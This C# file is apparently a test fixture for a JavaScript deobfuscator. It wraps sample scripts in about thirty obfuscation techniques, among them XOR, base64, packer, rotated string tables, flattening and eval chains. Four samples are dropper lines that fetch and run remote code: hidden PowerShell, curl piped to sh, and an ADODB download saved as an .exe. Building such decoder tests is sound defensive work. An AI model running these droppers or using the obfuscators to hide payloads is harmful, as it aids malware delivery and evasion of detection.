using System.Globalization;
using System.Text;
using System.Text.RegularExpressions;

namespace Stemma.Decoding.Tests;

/// <summary>Obfuscates scripts of our own in the ways that are met: what goes in must come out again.</summary>
internal sealed partial class JavaScriptMatrix(int seed)
{
    public static readonly string[] Payloads =
    [
        """var sh = new ActiveXObject("WScript.Shell"); sh.Run("cmd.exe /c powershell -nop -w hidden http://198.51.100.7/a.ps1", 0, false);""",
        """var x = new ActiveXObject("MSXML2.XMLHTTP"); x.open("GET", "http://files.example.net/update.bin", false); x.send(); var s = new ActiveXObject("ADODB.Stream"); s.Open(); s.Type = 1; s.Write(x.responseBody); s.SaveToFile("C:\\Users\\Public\\update.exe", 2);""",
        """var el = document.createElement("script"); el.src = "https://cdn.example.org/lib.js"; document.body.appendChild(el); console.log("loaded", el.src);""",
        """var cp = require("child_process"); cp.exec("curl http://203.0.113.5/i.sh | sh", function (e, o) { console.log("done", o); });""",
        """function greet(name) { var t = "Hello, " + name; for (var i = 0; i < 3; i++) { alert(t); } return t.length; } greet(prompt("Your name?"));""",
    ];

    private readonly Random _random = new(seed);

    public static IReadOnlyList<(string Name, Func<JavaScriptMatrix, string, string> Make)> Transformations { get; } =
    [
        ("split strings", (m, s) => Strings(s, m.Split)),
        ("character codes", (m, s) => Strings(s, m.Codes)),
        ("hexadecimal escapes", (m, s) => Strings(s, t => '"' + string.Concat(t.Select(c => $"\\x{(int)c:x2}")) + '"')),
        ("unicode escapes", (m, s) => Strings(s, t => '"' + string.Concat(t.Select(c => $"\\u{(int)c:x4}")) + '"')),
        ("reversed", (m, s) => Strings(s, t => $"{Quote(new string([.. t.Reverse()]))}.split(\"\").reverse().join(\"\")")),
        ("junk replaced", (m, s) => Strings(s, m.Junk)),
        ("percent escapes", (m, s) => Strings(s, t => $"unescape(\"{string.Concat(t.Select(c => $"%{(int)c:X2}"))}\")")),
        ("base64", (m, s) => Strings(s, t => $"atob(\"{Convert.ToBase64String(Encoding.Latin1.GetBytes(t))}\")")),
        ("table of strings", (m, s) => m.Table(s, false)),
        ("rotated table and decoder", (m, s) => m.Table(s, true)),
        ("exclusive or", (m, s) => m.Xor(s)),
        ("joined arrays", (m, s) => Strings(s, t => $"[{string.Join(", ", m.Pieces(t).Select(Quote))}].join(\"\")")),
        ("concat", (m, s) => Strings(s, t => m.Pieces(t) is var p ? $"{Quote(p[0])}.concat({string.Join(",", p.Skip(1).Select(Quote))})" : "")),
        ("computed members", (m, s) => Strings(Member().Replace(s, x => $"[{m.Split(x.Groups[1].Value)}]"), Quote)),
        ("radix", (m, s) => Strings(s, t => t.Length > 0 && t.All(char.IsAsciiLetterLower) && t.Length < 9 ? $"({Radix(t)}).toString(36)" : m.Split(t))),
        ("eval", (_, s) => $"eval({Quote(s)});"),
        ("eval of pieces", (m, s) => $"var q = {m.Split(s)}; eval(q);"),
        ("eval of percent escapes", (_, s) => $"eval(unescape(\"{string.Concat(s.Select(c => $"%{(int)c:x2}"))}\"))"),
        ("eval of character codes", (m, s) => $"eval({m.Codes(s)})"),
        ("eval twice", (m, s) => $"eval({Quote($"eval({m.Codes(s)})")})"),
        ("Function", (m, s) => $"new Function({m.Split(s)})();"),
        ("constructor of a function", (m, s) => $"(function(){{}})[\"constr\"+\"uctor\"]({m.Split(s)})();"),
        ("time-out", (m, s) => $"setTimeout({m.Split(s)}, 10);"),
        ("packer", (_, s) => Packed(s)),
        ("loop over codes", (m, s) => $"var d=[{string.Join(',', s.Select(c => c + 7))}],r=\"\";for(var i=0;i<d.length;i++){{r+=String.fromCharCode(d[i]-7)}}eval(r);"),
        ("dead code", (m, s) => m.Dead(s)),
        ("flattened", (m, s) => m.Flatten(s)),
        ("conditional compilation", (m, s) => $"/*@cc_on\n{Strings(s, m.Split)}\n@*/"),
        ("variables", (m, s) => m.Variables(s)),
        ("without letters", (_, s) => s.Length > 160 ? $"eval({Quote(s)})" : WithoutLetters.Write(s)),
    ];

    /// <summary>Replaces each string literal by an expression.</summary>
    private static string Strings(string script, Func<string, string> with) => Literal().Replace(script, m =>
    {
        string text = m.Groups[1].Value.Replace("\\\\", "\\", StringComparison.Ordinal);
        return text.Length < 3 ? m.Value : with(text);
    });

    private List<string> Pieces(string text)
    {
        List<string> pieces = [];
        for (int i = 0; i < text.Length;)
        {
            int length = Math.Min(text.Length - i, _random.Next(1, 5));
            pieces.Add(text.Substring(i, length));
            i += length;
        }
        return pieces;
    }

    private string Split(string text) => string.Join(_random.Next(2) == 0 ? "+" : " + ", Pieces(text).Select(Quote));

    private string Codes(string text) => _random.Next(2) == 0
        ? $"String.fromCharCode({string.Join(',', text.Select(c => (int)c))})"
        : string.Join('+', text.Select(c => $"String.fromCharCode(0x{(int)c + 5:x}-5)"));

    private string Junk(string text)
    {
        string junk = string.Concat(Enumerable.Range(0, 3).Select(_ => "QZXJ"[_random.Next(4)]));
        while (text.Contains(junk, StringComparison.Ordinal)) { junk += 'Q'; }
        return $"{Quote(string.Join(junk, Pieces(text)))}.replace(/{junk}/g, \"\")";
    }

    private string Table(string script, bool rotated)
    {
        List<string> table = [];
        string name = "_0x" + _random.Next(0x1000, 0xffff).ToString("x4", CultureInfo.InvariantCulture);
        string body = Strings(script, t =>
        {
            table.Add(t);
            return rotated ? $"{name}d(\"0x{table.Count - 1:x}\")" : $"{name}[{table.Count - 1}]";
        });
        if (!rotated) { return $"var {name} = [{string.Join(", ", table.Select(Quote))}]; {body}"; }
        table.Add("7marker");
        int turns = _random.Next(1, table.Count), size = table.Count;
        List<string> turned = [.. Enumerable.Range(0, size).Select(i => table[((i - turns) % size + size) % size])];
        return $"var {name}=[{string.Join(',', turned.Select(t => Quote(Convert.ToBase64String(Encoding.Latin1.GetBytes(t)))))}];"
            + $"(function(a,b){{var c=function(n){{while(--n){{a['push'](a['shift']());}}}};while(!![]){{try{{if(parseInt(atob(a[{size - 1}]))===b)break;else a['push'](a['shift']());}}catch(e){{a['push'](a['shift']());}}}}}}({name},0x7));"
            + $"var {name}d=function(i,k){{i=i-0x0;var v={name}[i];if({name}d['c']===undefined){{{name}d['c']={{}};}}return atob(v);}};{body}";
    }

    private string Xor(string script)
    {
        int key = _random.Next(1, 255);
        return "function dec(s, k) { var o = ''; for (var i = 0; i < s.length; i += 2) { o += String.fromCharCode(parseInt(s.substr(i, 2), 16) ^ k); } return o; } "
            + Strings(script, t => $"dec('{string.Concat(t.Select(c => (c ^ key).ToString("x2", CultureInfo.InvariantCulture)))}', {key})");
    }

    private static string Packed(string script)
    {
        var words = Word().Matches(script).Select(m => m.Value).Distinct().ToList();
        string body = Word().Replace(script, m => ToBase(words.IndexOf(m.Value)));
        return "eval(function(p,a,c,k,e,d){e=function(c){return(c<a?'':e(parseInt(c/a)))+((c=c%a)>35?String.fromCharCode(c+29):c.toString(36))};if(!''.replace(/^/,String)){while(c--){d[e(c)]=k[c]||e(c)}k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}("
            + $"'{body.Replace("\\", "\\\\", StringComparison.Ordinal).Replace("'", "\\'", StringComparison.Ordinal)}',62,{words.Count},'{string.Join('|', words)}'.split('|'),0,{{}}))";

        static string ToBase(int n) => (n < 62 ? "" : ToBase(n / 62)) + (n % 62 > 35 ? (char)(n % 62 + 29) : "0123456789abcdefghijklmnopqrstuvwxyz"[n % 62]);
    }

    private string Dead(string script)
    {
        if (script.Contains("function", StringComparison.Ordinal)) { return $"if ('{_random.Next(1000)}a' === 'b') {{ var z = 1; }} else {{ {script} }}"; }
        return string.Concat(script.Split("; ").Select((line, i) => i % 2 == 0 ? $"{line.TrimEnd(';')}; " : $"if ({Quote("k" + i)} !== {Quote("k" + i)}) {{ var z{i} = {_random.Next(99)}; alert(z{i}); }} else {{ {line.TrimEnd(';')}; }} "));
    }

    private string Flatten(string script)
    {
        if (script.Contains("function", StringComparison.Ordinal)) { return $"eval({Quote(script)})"; }
        string[] lines = [.. script.Split("; ").Select(l => l.TrimEnd(';') + ";")];
        int[] order = [.. Enumerable.Range(0, lines.Length)];
        _random.Shuffle(order);
        string steps = string.Join('|', Enumerable.Range(0, lines.Length).Select(i => Array.IndexOf(order, i)));
        return $"var _o = '{steps}'.split('|'), _i = 0; while (!![]) {{ switch (_o[_i++]) {{ {string.Concat(order.Select((line, i) => $"case '{i}': {lines[line]} continue; "))} }} break; }}";
    }

    private string Variables(string script)
    {
        var before = new StringBuilder();
        int n = 0;
        string body = Strings(script, t =>
        {
            List<string> names = [];
            foreach (string piece in Pieces(t)) { before.Append(CultureInfo.InvariantCulture, $"var _0xv{n} = {Quote(piece)}; "); names.Add("_0xv" + n++); }
            return string.Join(" + ", names);
        });
        return before + body;
    }

    public static string Quote(string text) => '"' + text.Replace("\\", "\\\\", StringComparison.Ordinal).Replace("\"", "\\\"", StringComparison.Ordinal).Replace("\n", "\\n", StringComparison.Ordinal) + '"';

    private static string Radix(string text)
    {
        long value = 0;
        foreach (char c in text) { value = (value * 36) + (c - 'a' + 10); }
        return value.ToString(CultureInfo.InvariantCulture);
    }

    [GeneratedRegex("\"((?:[^\"\\\\]|\\\\.)*)\"")]
    private static partial Regex Literal();

    [GeneratedRegex(@"(?<=\w|\))\.([A-Za-z]\w{3,})(?=[\s(=,;)])(?![^""]*""[^""]*(?:""[^""]*""[^""]*)*$)")]
    private static partial Regex Member();

    [GeneratedRegex(@"\w+")]
    private static partial Regex Word();
}
